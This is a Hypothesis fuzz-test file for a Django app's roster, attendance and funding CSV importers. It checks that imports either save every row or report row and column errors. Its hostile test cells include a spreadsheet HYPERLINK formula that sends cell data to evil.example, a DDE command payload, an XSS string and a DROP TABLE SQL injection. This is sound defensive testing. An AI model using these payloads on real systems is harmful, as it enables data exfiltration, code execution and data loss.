"""Random and hostile rows thrown at the roster, attendance and funding importers.

Whatever the file — broken encodings, formula cells, 100,000-character cells, duplicate or missing
headers, impossible dates, negative numbers, NUL bytes, unknown sectors — an import either saves
exactly the rows given or reports errors naming the row and column (or the file), never raises,
and never leaves part of a file saved. Each example runs inside a transaction that is rolled
back, so examples do not see each other's rows.
"""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from django.apps import apps
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from consortium.tabular import TableError, read_table
from events import importing as attendance
from members import importing as roster
from members.models import Membership, Organisation
from projects import resources as funding_columns
from projects import services as project_services
from projects.models import Funding
from tests.factories import OrganisationFactory, PersonFactory, StudyGroupFactory, corporate_number
from tests.projects.factories import FunderFactory, ProjectFactory

pytestmark = pytest.mark.django_db

HOSTILE = settings(
    max_examples=30,
    deadline=None,
    # Fixtures set up shared reference data once; every example rolls its own writes back.
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]
DATES = [
    "令和元年5月1日",
    "2019/5/1",
    "平成32年1月1日",
    "2019-02-30",
    "H31.4.30",
    "R1.5.1",
    "0000-00-00",
]
NUMBERS = ["-1", "-15,000,000", "0", "1e9", "１２３", "NaN", "9" * 40, "12.5"]
NASTY = [
    "",
    "a\x00b",
    "\x00",
    "\ufeff",
    "<script>alert(1)</script>",
    "'; DROP TABLE members_organisation;--",
    "宇宙",
    "unknown",
    "あ" * 100_000,
]
HOSTILE_CELLS = st.sampled_from(FORMULAS + DATES + NUMBERS + NASTY) | st.text(max_size=12)


def _cells(valid: list[str]):
    """Mostly plausible values of the column, often hostile ones."""
    return st.sampled_from(valid) | HOSTILE_CELLS


def _headers(columns):
    full = [column.ja for column in columns]
    names = full + [column.key for column in columns] + ["備考欄", ""]
    return st.just(full) | st.lists(st.sampled_from(names), min_size=1, max_size=len(full) + 2)


@st.composite
def hostile_files(draw, columns, valid: dict[str, list[str]]) -> tuple[bytes, str]:
    """A CSV in some encoding (or broken bytes) with a header that may lose or repeat columns."""
    header = draw(_headers(columns))
    count = draw(st.integers(min_value=1, max_value=5))
    if header == [c.ja for c in columns]:
        # Plausible rows in column order with a cell or two made hostile: some import cleanly.
        rows = []
        for _ in range(count):
            row = [draw(st.sampled_from(valid.get(c.key, [""]))) for c in columns]
            for position in draw(st.sets(st.integers(0, len(columns) - 1), max_size=2)):
                row[position] = draw(HOSTILE_CELLS)
            rows.append(row)
    else:
        rows = [draw(st.lists(HOSTILE_CELLS, max_size=len(header) + 1)) for _ in range(count)]
    lines = []
    for row in [header, *rows]:
        out = io.StringIO()
        csv.writer(out).writerow(row)
        lines.append(out.getvalue())
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp932", "mixed", "garbage"]))
    if encoding == "mixed":  # a file pasted together from two spreadsheets
        data = b"".join(
            line.encode("cp932" if i % 2 else "utf-8", errors="replace")
            for i, line in enumerate(lines)
        )
    elif encoding == "garbage":
        data = lines[0].encode() + draw(st.binary(min_size=1, max_size=200))
    else:
        data = "".join(lines).encode(encoding, errors="replace")
    return data, "hostile.csv"


def _plain_file(columns, valid: dict[str, list[str]], *, nul: bool = False) -> tuple[bytes, str]:
    """The first plausible value of every column: a file that must import cleanly. With
    ``nul`` a second row carries a NUL byte in its second cell (PostgreSQL refuses NUL)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([c.ja for c in columns])
    row = [valid.get(c.key, [""])[0] for c in columns]
    writer.writerow(row)
    if nul:
        writer.writerow([row[0], "a\x00b", *row[2:]])
    return out.getvalue().encode("utf-8"), "plain.csv"


def _row_counts() -> dict[str, int]:
    """Rows of every table of the three apps (history included)."""
    return {
        model._meta.label: model._default_manager.count()
        for app in ("members", "projects", "events")
        for model in apps.get_app_config(app).get_models()
    }


def _table(data: bytes, columns):
    try:
        return read_table(data, "hostile.csv", columns)
    except TableError:
        return None


def _rolled_back(check):
    with transaction.atomic():
        check()
        transaction.set_rollback(True)


# --- Roster ------------------------------------------------------------------------------------

ROSTER_VALID = {
    "organisation": ["株式会社湘南マリン", "平塚市 産業振興課", "新規電機株式会社"],
    "organisation_kana": ["ショウナンマリン", ""],
    "sector": ["企業", "行政", "大学", "university", "宇宙"],
    "local": ["市内", "1", "false", "たぶん"],
    "corporate_number": ["", corporate_number(7), "1234567890123"],
    "person": ["山田 花子", ""],
    "email": ["hanako@marine.example.jp", "not-an-email", ""],
    "department": ["技術部", ""],
    "study_group": [
        "平塚海洋エネルギー研究会",
        "平塚海洋エネルギー研究会/第2部会",
        "新設研究会",
        "",
    ],
}


@pytest.fixture
def reference_data(study_group):
    StudyGroupFactory(name="第2部会", parent=study_group)
    marine = OrganisationFactory(name="株式会社湘南マリン", corporate_number=corporate_number(7))
    PersonFactory(name="山田 花子", email="hanako@marine.example.jp", organisation=marine)
    project = ProjectFactory(name="平塚波力発電 実証事業")
    FunderFactory(name="内閣府")
    return project


@HOSTILE
@example(file=_plain_file(roster.COLUMNS, ROSTER_VALID))
@example(file=_plain_file(roster.COLUMNS, ROSTER_VALID, nul=True))
@given(file=hostile_files(roster.COLUMNS, ROSTER_VALID))
def test_roster_import_saves_all_rows_or_names_every_problem(reference_data, file):
    data, filename = file

    def check():
        before = _row_counts()
        memberships = Membership.objects.count()
        result = roster.roster_import(data=data, filename=filename)
        event("saved" if result.ok else "file error" if result.file_error else "row errors")
        if result.ok:
            table = _table(data, roster.COLUMNS)
            assert table is not None
            for row in table.rows:
                name = unicodedata.normalize("NFKC", row.values["organisation"]).strip()
                assert Organisation.objects.filter(name=name).exists(), row.number
            assert Membership.objects.count() - memberships == result.memberships_created
        else:
            assert _row_counts() == before, "a failed roster import saved rows"
            if not result.file_error:
                for error in result.errors:
                    assert error.row >= 2
                    assert f"{error.row}行目" in str(error)
                    assert error.column == "" or error.column_label

    _rolled_back(check)


# --- Attendance --------------------------------------------------------------------------------

ATTENDANCE_VALID = {
    "date": ["2019/5/1", "令和元年5月1日", "2019-05-01"],
    "meeting": ["第1回 部会", "総会"],
    "kind": ["部会", "総会", "実験", "宴会"],
    "study_group": ["平塚海洋エネルギー研究会", "平塚海洋エネルギー研究会/第2部会", "未登録の会"],
    "person": ["山田 花子", "新人 次郎", ""],
    "email": ["hanako@marine.example.jp", "jiro@new.example.jp", "bad@", ""],
    "organisation": ["株式会社湘南マリン", "新規電機株式会社", ""],
    "corporate_number": ["", corporate_number(7), "123"],
    "headcount": ["", "3", "-2", "四"],
}


@HOSTILE
@example(file=_plain_file(attendance.COLUMNS, ATTENDANCE_VALID))
@example(file=_plain_file(attendance.COLUMNS, ATTENDANCE_VALID, nul=True))
@given(file=hostile_files(attendance.COLUMNS, ATTENDANCE_VALID))
def test_attendance_import_saves_the_planned_rows_or_names_every_problem(reference_data, file):
    from events.models import Attendance, Meeting

    data, filename = file

    def check():
        before = _row_counts()
        plan = attendance.import_plan(data, filename)
        event("saved" if plan.ok else "file error" if plan.file_error else "row errors")
        assert _row_counts() == before, "planning an import wrote to the database"
        if plan.ok:
            meetings, rows = Meeting.objects.count(), Attendance.objects.count()
            planned = len(plan.new_meetings), plan.attendance_count
            attendance.import_apply(plan, recorded_by=None)
            assert (
                Meeting.objects.count() - meetings,
                Attendance.objects.count() - rows,
            ) == planned
        elif not plan.file_error:
            headers = {column.ja for column in attendance.COLUMNS}
            for error in plan.errors:
                assert error.row >= 2
                assert error.column in headers
                assert error.message

    _rolled_back(check)


# --- Funding -----------------------------------------------------------------------------------

FUNDING_VALID = {
    "project": ["平塚波力発電 実証事業", "存在しない事業"],
    "fiscal_year": ["2019", "2018年度", "令和元年度", "-2019"],
    "funder": ["内閣府", "謎の財団"],
    "scheme": ["地方創生推進交付金"],
    "kind": ["交付金・補助金", "grant", "委託", "寄付?"],
    "amount": ["15,000,000", "", "-5", "1e3"],
    "status": ["", "受領", "ended", "不明"],
    "note": ["最終年度", ""],
}


@HOSTILE
@example(file=_plain_file(funding_columns.COLUMNS, FUNDING_VALID))
@example(file=_plain_file(funding_columns.COLUMNS, FUNDING_VALID, nul=True))
@given(file=hostile_files(funding_columns.COLUMNS, FUNDING_VALID))
def test_funding_import_saves_all_rows_or_names_every_problem(reference_data, file):
    data, filename = file

    def check():
        before = _row_counts()
        result = project_services.funding_import(data=data, filename=filename, dry_run=False)
        event("saved" if result.saved else "problems")
        if result.saved:
            new = sum(1 for row in result.rows if row["action"] == "new")
            assert Funding.objects.count() - before["projects.Funding"] == new
            table = _table(data, funding_columns.COLUMNS)
            assert table is not None and len(result.rows) == len(table.rows)
        else:
            assert _row_counts() == before, "a failed funding import saved rows"
            labels = set(funding_columns.COLUMN_LABELS.values()) | {""}
            for problem in result.problems:
                assert problem.message
                assert problem.column in labels
                assert "Traceback" not in problem.message

    _rolled_back(check)


# --- Through the staff pages: an error page, never a 500 ----------------------------------------


@settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    funding=hostile_files(funding_columns.COLUMNS, FUNDING_VALID),
    sheet=hostile_files(attendance.COLUMNS, ATTENDANCE_VALID),
)
def test_staff_upload_pages_answer_hostile_files_with_a_page(
    client_as, reference_data, funding, sheet
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_as("staff")

    def check():
        response = client.post(
            reverse("projects:funding_import"),
            {"file": SimpleUploadedFile("財源.csv", funding[0])},
        )
        assert response.status_code == 200
        response = client.post(
            reverse("events:import_upload"),
            {"file": SimpleUploadedFile("出席簿.csv", sheet[0]), "encoding": ""},
            follow=True,
        )
        assert response.status_code == 200
        page = response.content.decode()
        plan = response.context.get("plan")
        if plan is not None and not plan.ok:
            first = plan.file_error or f"{plan.errors[0].row}"
            assert first in page

    _rolled_back(check)


@settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck))
@given(file=hostile_files(roster.COLUMNS, ROSTER_VALID))
@example(file=("団体名\r\n=1\r\n".encode(), "missing-columns.csv"))
def test_admin_roster_import_answers_hostile_files_with_a_page(
    client, django_user_model, reference_data, file
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    root, _ = django_user_model.objects.get_or_create(
        username="root", defaults={"is_staff": True, "is_superuser": True}
    )
    client.force_login(root)

    def check():
        before = _row_counts()
        response = client.post(
            "/admin/members/organisation/import/",
            {"format": "0", "import_file": SimpleUploadedFile("名簿.csv", file[0])},
        )
        assert response.status_code == 200
        assert _row_counts() == before, "the admin's import preview saved rows"

    _rolled_back(check)


def test_nul_byte_is_a_file_error_naming_row_and_column(reference_data):
    data, filename = _plain_file(attendance.COLUMNS, ATTENDANCE_VALID, nul=True)
    plan = attendance.import_plan(data, filename)
    assert "3行目 2列目（会議名）" in plan.file_error
    result = roster.roster_import(
        data=_plain_file(roster.COLUMNS, ROSTER_VALID, nul=True)[0], filename="roster.csv"
    )
    assert "3行目 2列目（団体名カナ）" in result.file_error


def test_admin_roster_import_shows_a_missing_column_as_a_message(client, django_user_model):
    from django.core.files.uploadedfile import SimpleUploadedFile

    root = django_user_model.objects.create_superuser("root", "root@city.example.jp", "x")
    client.force_login(root)
    response = client.post(
        "/admin/members/organisation/import/",
        {"format": "0", "import_file": SimpleUploadedFile("名簿.csv", "団体名\n平塚市\n".encode())},
    )
    assert response.status_code == 200
    assert "必須の列がありません" in response.content.decode()
